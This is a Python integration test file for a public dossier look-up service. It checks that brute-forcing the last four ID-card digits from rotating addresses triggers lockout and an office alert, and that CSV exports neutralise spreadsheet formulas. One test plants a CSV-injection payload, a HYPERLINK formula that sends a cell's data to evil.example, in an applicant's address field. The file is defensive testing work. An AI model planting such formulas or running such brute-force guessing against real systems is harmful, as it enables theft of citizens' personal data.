"""Public dossier look-up under many addresses (issue #21, item 5): the per-address limit holds, but an
attacker rotating loopback addresses (127.0.0.x) once found a dossier by walking the CCCD's last 4
digits. Now wrong keys count against the dossier code: after a few the CCCD digits no longer open it
(only the receipt's full key does), after more the code is locked for online look-up and the office sees
an alert on its dashboard; an administrator releases it. Real hub, real Mosquitto, real SQLite."""

from __future__ import annotations

import csv
import io
import json
import urllib.parse
from datetime import datetime
from pathlib import Path

import pytest

from hub.ops import security
from hub.ops.run import Runner
from hub.store import tokens
from motcua.cli import main as cli_main
from motcua_core import clock as wallclock
from tests.dossier.conftest import APPLICANT, DossierHub
from tests.dossier.test_public_lookup import _receive
from tests.security.conftest import Client

pytestmark = pytest.mark.integration


def _leader(dhub: DossierHub) -> str:
    return dhub.on_loop(lambda: Runner(dhub.db).run("demo", lambda ctx: tokens.add(
        ctx.db, role="leader", site_id="demo", name="dashboard", now=ctx.now))[1])


def test_rotating_addresses_cannot_walk_a_dossiers_cccd_digits(dhub: DossierHub, tmp_path: Path, capsys) -> None:
    r, _desk = _receive(dhub, tmp_path)
    code, key, last4 = r["code"], r["receipt"]["lookup_key"], APPLICANT["cccd"][-4:]
    addresses = [Client(dhub.h, f"127.0.0.{i}") for i in range(2, 6)]  # four addresses, as in the attack

    def lookup(c: Client, k: str) -> int:
        return c.request("GET", f"/api/v1/dossiers/{code}?k={urllib.parse.quote(k)}")[0]

    guesses = [f"{n:04d}" for n in range(10_000) if f"{n:04d}" != last4]
    for i in range(security.LOOKUP_CCCD_OFF_AFTER):
        assert lookup(addresses[i % 4], guesses[i]) == 404
    fresh = Client(dhub.h, "127.0.0.50")
    assert lookup(fresh, last4) == 404  # the right digits no longer open it...
    assert lookup(fresh, key) == 200  # ...the receipt's full key still does
    for i in range(security.LOOKUP_CCCD_OFF_AFTER + 1, security.LOOKUP_LOCK_AFTER):  # the 20th wrong key locks
        assert lookup(addresses[i % 4], guesses[i]) == 404  # each address stays far under its own limit
    status, _h, text = Client(dhub.h, "127.0.0.51").request("GET", f"/api/v1/dossiers/{code}?k={key}")
    assert status == 423 and "tạm khóa tra cứu" in json.loads(text)["error"]["message_vi"]
    # An unknown code locks the same way, so a lock does not tell that the code exists.
    other = code[:-4] + "9999"
    for i in range(security.LOOKUP_LOCK_AFTER):
        addresses[i % 4].request("GET", f"/api/v1/dossiers/{other}?k=ZZZZZZ")
    assert Client(dhub.h, "127.0.0.52").request("GET", f"/api/v1/dossiers/{other}?k=ZZZZZZ")[0] == 423

    # The office is told: an alert on the leaders' dashboard (the unknown code raises none).
    status, dash = dhub.http("GET", "/api/v1/sites/demo/dashboard", token=_leader(dhub))
    assert status == 200
    locked = [a for a in dash["alerts"] if a["kind"] == "lookup_locked"]
    assert [a["subject"] for a in locked] == [code] and code in locked[0]["text_vi"]
    # The administrator releases it (the citizen came to the counter); the key opens it again.
    assert cli_main(["hub", "security", "release", "--data", str(dhub.h.data), str(locked[0]["id"])]) == 0
    capsys.readouterr()
    assert lookup(Client(dhub.h, "127.0.0.53"), key) == 200


def test_register_csv_neutralises_formulas_from_an_applicant(dhub: DossierHub, tmp_path: Path) -> None:
    """`register.csv` once carried `=HYPERLINK("http://evil.example/?d="&B2,"Xem")` typed as an address."""
    from counter_terminal.core import CounterCore
    from counter_terminal.dossier_core import DossierCore

    counter = CounterCore(dhub.h.device("counter", counter=2))
    counter.login("lan1", "1111")
    counter.open()
    desk = DossierCore(counter.session, tmp_path / "printed")
    evil = {**APPLICANT, "name": "@Trần Thị Bình", "address": '=HYPERLINK("http://evil.example/?d="&B2,"Xem")',
            "phone": "0912345670"}
    got = desk.intake("cap-phep-xay-dung-lien-thong", evil, [0, 1, 2])
    day = datetime.fromtimestamp(dhub.h.clock(), wallclock.VIETNAM).date().isoformat()  # the site's day, not the host's
    status, body = dhub.http("GET", f"/api/v1/sites/demo/register.csv?from={day}&to={day}", token=_leader(dhub))
    assert status == 200
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    row = next(r for r in rows if got["code"] in r)
    cells = [c for c in row if "HYPERLINK" in c or "Bình" in c]
    assert cells and all(c.startswith("'") for c in cells), row
    assert not any(c.startswith(("=", "+", "@", "-", "\t", "\r")) for r in rows for c in r)
